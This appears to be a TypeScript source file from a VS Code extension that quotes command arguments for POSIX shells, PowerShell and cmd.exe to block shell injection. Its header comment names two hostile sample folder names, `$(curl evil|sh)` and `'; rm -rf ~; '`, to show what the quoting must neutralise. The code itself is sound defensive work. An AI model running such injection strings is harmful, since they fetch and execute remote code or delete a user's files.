/**
 * Command lines we hand the user to paste into a terminal (Export Metrics' "Copy Command"), with every
 * argument quoted for the shell it will be pasted into. A folder named `$(curl evil|sh)` or
 * `'; rm -rf ~; '` in a cloned repository must arrive as that folder name, not run.
 */

export type ShellKind = 'posix' | 'powershell' | 'cmd';

/** POSIX sh, bash, zsh, fish: single quotes take everything literally; a ' is closed, escaped, reopened. */
export function posixQuote(arg: string): string {
  return `'${arg.replace(/'/g, `'\\''`)}'`;
}

/**
 * PowerShell: single-quoted strings are literal ($, `, ; included); a quote is doubled. PowerShell also
 * reads the typographic single quotes ‘ ’ ‚ ‛ as quotes, so those are doubled too.
 */
export function powershellQuote(arg: string): string {
  return `'${arg.replace(/['\u2018\u2019\u201a\u201b]/g, (q) => q + q)}'`;
}

/**
 * cmd.exe: double quotes keep & | < > ^ literal, but %VAR% still expands inside them, so each % is put
 * outside the quotes and escaped (`"a"^%"b"`). A " cannot be in a Windows path; one is refused.
 */
export function cmdQuote(arg: string): string {
  if (arg.includes('"')) throw new Error(`cannot quote ${JSON.stringify(arg)} for cmd.exe`);
  return `"${arg.replace(/%/g, '"^%"')}"`;
}

/** One argument quoted for `shell`. */
export function quoteArg(arg: string, shell: ShellKind): string {
  return shell === 'powershell' ? powershellQuote(arg) : shell === 'cmd' ? cmdQuote(arg) : posixQuote(arg);
}

/** Which quoting a shell executable (VS Code's `env.shell`) takes. */
export function shellKindOf(shellPath: string, platform: string): ShellKind {
  const name = shellPath.split(/[\\/]/).pop()?.toLowerCase() ?? '';
  if (/^(pwsh|powershell)(\.exe)?$/.test(name)) return 'powershell';
  if (/^cmd(\.exe)?$/.test(name)) return 'cmd';
  if (name === '') return platform === 'win32' ? 'powershell' : 'posix';
  return 'posix';
}
